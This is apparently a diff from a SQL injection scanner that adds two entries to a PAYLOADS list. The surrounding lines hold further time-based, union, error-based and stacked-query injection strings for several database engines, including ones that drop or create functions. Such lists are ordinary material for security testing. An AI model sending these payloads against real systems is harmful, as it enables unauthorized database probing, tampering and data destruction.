@@ -50,6 +50,8 @@ PAYLOADS = [
     "UNION ALL SELECT 1,2,3,4",
     "ORDER BY 1,SLEEP(5)#",
     "1;if(3=4) select 7 else drop function zvlq--",
+    "1;if(3=4) select (case when 1=2 then 5 else 6 end) else drop function zvlq--",
+    "1;create or replace function sleep(int) returns int as 'x','sleep' language 'c' strict; select sleep(5)--",
     "1' and 4=convert(int,(select char(113)+char(122)))--",
     "1' and row(4,5)>(select count(*),floor(rand(0)*2) x from (select 1 union select 2)a group by x)#",
     "');begin dbms_lock.sleep(5); end--",
